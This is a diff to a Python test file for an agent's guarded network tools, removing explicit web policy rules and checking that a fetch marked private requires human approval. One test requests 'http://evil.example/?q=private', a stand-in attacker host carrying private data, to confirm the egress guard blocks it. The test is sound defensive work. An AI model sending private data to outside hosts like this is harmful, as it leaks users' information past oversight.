@@ -14,7 +14,7 @@ import msgspec
 import pytest
 
 from sonia.config import EvaOs, OpenClaw
-from sonia.control import Control, Rule, open_control
+from sonia.control import Control, open_control
 from sonia.db import open_database
 from sonia.tools import Call, GuardedTools, Outcome, open_tools
 from sonia.tools.network import EgressDenied, GuardedClient, Reach
@@ -63,7 +63,6 @@ async def staged(
             open_control(EvaOs(), db) as control,
             open_tools(config, control, db, folder / "workspace", client=client) as tools,
         ):
-            await control.set_policy((Rule(tool="web.*", verdict="allow"),), by="test")
             yield Stage(tools, control, dialler)
 
 
@@ -113,9 +112,7 @@ async def test_a_page_that_is_not_there_is_not_taken_for_done(stage: Stage) -> N
 async def test_t05_a_page_that_a_person_is_asked_about_is_not_looked_up_before(
     stage: Stage,
 ) -> None:
-    await stage.control.set_policy((Rule(tool="web.*", verdict="ask"),), by="test")
-
-    outcome = await fetch(stage, "http://evil.example/?q=private")
+    outcome = await fetch(stage, "http://evil.example/?q=private", private=True)
 
     assert outcome.status == "approval_required"
     assert outcome.preview is not None
